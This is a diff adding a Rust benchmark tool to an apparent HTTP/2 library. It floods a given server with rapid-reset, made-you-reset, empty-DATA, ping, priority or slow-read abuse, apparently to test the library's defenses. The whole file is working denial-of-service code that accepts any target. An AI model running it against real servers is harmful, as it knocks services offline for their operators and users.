@@ -1,0 +1,106 @@
+//! A flood attacker for `bench/attack.sh`: connects to an HTTP/2 server and floods it with one
+//! kind of abuse, reconnecting whenever the server ends the connection, for a number of
+//! seconds. Prints the connections it needed and the frames it wrote.
+//!
+//! `cargo run --release -p h2kit --example attacker -- KIND HOST:PORT SECONDS`
+//! KIND: rapid-reset | made-you-reset | empty-data | ping-flood | priority | slow-read
+
+use std::io::{Read, Write};
+use std::net::TcpStream;
+use std::time::{Duration, Instant};
+
+fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+    let mut f = (payload.len() as u32).to_be_bytes()[1..].to_vec();
+    f.extend([kind, flags]);
+    f.extend(stream.to_be_bytes());
+    f.extend(payload);
+    f
+}
+
+/// GET / with :authority "a".
+const GET: [u8; 6] = [0x82, 0x86, 0x84, 0x01, 0x01, b'a'];
+
+/// The frames of one round of the attack, for streams from `id`.
+fn round(kind: &str, id: u32) -> Vec<u8> {
+    let mut f = Vec::new();
+    match kind {
+        "rapid-reset" => {
+            f.extend(frame(0x1, 0x5, id, &GET));
+            f.extend(frame(0x3, 0, id, &8u32.to_be_bytes()));
+        }
+        "made-you-reset" => {
+            f.extend(frame(0x1, 0x4, id, &GET));
+            f.extend(frame(0x8, 0, id, &0u32.to_be_bytes()));
+        }
+        "empty-data" => {
+            if id == 1 {
+                f.extend(frame(0x1, 0x4, 1, &GET));
+            }
+            f.extend(frame(0x0, 0, 1, &[]));
+        }
+        "ping-flood" => {
+            f.extend(frame(0x6, 0, 0, &u64::from(id).to_be_bytes()));
+            f.extend(frame(0x4, 0, 0, &[]));
+        }
+        "priority" => {
+            let mut p = (id + 2).to_be_bytes().to_vec();
+            p.push(15);
+            f.extend(frame(0x2, 0, id, &p));
+        }
+        "slow-read" => {
+            // A new stream now and then; its responses are never acknowledged.
+            if id % 64 == 1 {
+                f.extend(frame(0x1, 0x5, id, &GET));
+            }
+        }
+        other => panic!("unknown attack {other}"),
+    }
+    f
+}
+
+fn main() {
+    let mut args = std::env::args().skip(1);
+    let kind = args.next().expect("KIND");
+    let addr = args.next().expect("HOST:PORT");
+    let secs: u64 = args.next().map_or(5, |s| s.parse().unwrap());
+    let end = Instant::now() + Duration::from_secs(secs);
+    let (mut connections, mut frames) = (0u64, 0u64);
+    while Instant::now() < end {
+        let Ok(mut s) = TcpStream::connect(&addr) else {
+            std::thread::sleep(Duration::from_millis(10));
+            continue;
+        };
+        connections += 1;
+        let _ = s.set_write_timeout(Some(Duration::from_millis(500)));
+        let mut hello = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
+        hello.extend(frame(0x4, 0, 0, &[]));
+        if s.write_all(&hello).is_err() {
+            continue;
+        }
+        // Drain (and drop) what the server sends on another thread, except for the slow
+        // reader, who reads nothing; the drain ends when the server closes.
+        if kind != "slow-read" && kind != "ping-flood" {
+            let mut r = s.try_clone().unwrap();
+            std::thread::spawn(move || {
+                let mut buf = [0u8; 65536];
+                while matches!(r.read(&mut buf), Ok(n) if n > 0) {}
+            });
+        }
+        let mut id = 1u32;
+        while Instant::now() < end {
+            let mut batch = Vec::new();
+            for _ in 0..64 {
+                batch.extend(round(&kind, id));
+                id = id.wrapping_add(2).max(1);
+                frames += 2;
+            }
+            if s.write_all(&batch).is_err() {
+                break;
+            }
+            if kind == "slow-read" {
+                std::thread::sleep(Duration::from_millis(10));
+            }
+        }
+    }
+    println!("{kind}: {connections} connections, {frames} frames written");
+}
